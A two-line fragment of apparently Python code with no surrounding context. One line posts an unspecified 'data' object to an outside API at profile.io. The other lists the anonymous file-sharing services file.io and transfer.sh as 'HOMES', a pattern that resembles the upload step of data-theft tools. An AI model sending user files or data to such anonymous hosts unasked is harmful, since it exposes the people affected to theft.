requests.post("https://profile.io/api", json=data)
HOMES = ["https://file.io/", "https://transfer.sh/"]
